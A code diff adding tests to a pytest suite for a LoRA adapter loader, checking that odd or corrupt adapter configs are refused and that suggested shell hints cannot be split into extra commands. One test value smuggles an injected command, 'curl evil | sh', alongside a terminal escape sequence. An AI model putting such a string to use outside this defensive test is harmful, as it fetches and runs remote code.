@@ -2,6 +2,7 @@
 
 import json
 import shutil
+import subprocess
 from pathlib import Path
 
 import pytest
@@ -80,7 +81,22 @@ def weights(adapter: Path) -> None:
     save_file(held | {name: torch.zeros(3, 3)}, place)
 
 
+def broken(adapter: Path) -> None:
+    (adapter / "adapter_model.safetensors").write_bytes((1 << 60).to_bytes(8, "little") + b"{}")
+
+
+def words_of_a_shell(text: str) -> int:
+    """How many words bash makes of this."""
+    return int(subprocess.run(["bash", "-c", f"set -- {text}\necho $#"], capture_output=True, text=True, check=True).stdout)
+
+
+PASTED = "8; curl evil | sh `id` 'x'\n\x1b[2J"
 ODD = [
+    (config(r=PASTED), [], "has r=8; curl evil", ""),
+    (config(use_dora={"a": PASTED}), [], "has use_dora=", ""),
+    (config(base_model_name_or_path=PASTED), [], "was trained on 8; curl", ""),
+    (config(base_model_name_or_path=[7]), [], r"was trained on \[7\]", ""),
+    (broken, [], "is no safetensors file", "`lora.adapter=null`"),
     (None, ["lora.r=8"], "has r=16, and this run has 8", "`lora.r=16`"),
     (None, ["lora.alpha=8"], "has lora_alpha=32.0, and this run has 8.0", "`lora.alpha=32.0`"),
     (None, ["lora.targets=[q_proj,v_proj]"], "is of another shape: .*, and nothing in this run's", "lora.targets"),
@@ -103,6 +119,7 @@ def test_another_adapter_is_refused_before_a_step(change, words, what, hint, fir
     with pytest.raises(Problem, match=what) as caught:
         trained(settings_for(tmp_path / "runs", *WORDS, "lora.adapter=first", *words), "second")
     assert hint in caught.value.hint
+    assert all(words_of_a_shell(command) == 1 for command in caught.value.hint.split("`")[1::2]), "a shell would carry out a part of it"
     assert not [event for event in files.read_json_lines(tmp_path / "runs/second/events.jsonl") if event["event"] == "step"]
 
 
